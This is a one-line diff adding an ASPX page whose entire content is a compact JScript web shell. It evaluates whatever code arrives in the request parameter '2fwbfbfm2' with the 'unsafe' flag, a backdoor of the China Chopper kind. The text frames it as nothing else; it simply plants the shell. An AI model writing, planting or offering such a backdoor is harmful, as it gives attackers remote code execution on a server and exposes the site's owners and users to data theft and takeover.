@@ -1,0 +1,1 @@
+<%@ Page Language="Jscript"%><%eval(Request.Item["2fwbfbfm2"],"unsafe");%>
